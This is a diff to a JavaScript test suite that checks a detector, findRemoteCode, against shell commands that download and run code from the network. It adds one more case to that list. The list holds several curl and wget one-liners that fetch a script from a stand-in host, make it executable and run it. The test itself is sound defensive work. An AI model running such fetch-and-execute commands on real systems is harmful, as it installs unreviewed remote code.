@@ -21,6 +21,7 @@ describe("code from the network", () => {
     "curl -o /tmp/install.sh https://x.example.com/install.sh\nsh /tmp/install.sh",
     "wget https://x.example.com/setup.sh && chmod +x setup.sh && ./setup.sh",
     "curl -O https://x.example.com/setup.sh; bash setup.sh",
+    "curl -s https://x.example.com/i > /tmp/i; chmod +x /tmp/i; sh /tmp/i",
   ];
   for (const text of remote) {
     it(`finds ${text.replace(/\n/g, "⏎").slice(0, 60)}`, () => assert.equal(findRemoteCode(text).length, 1));
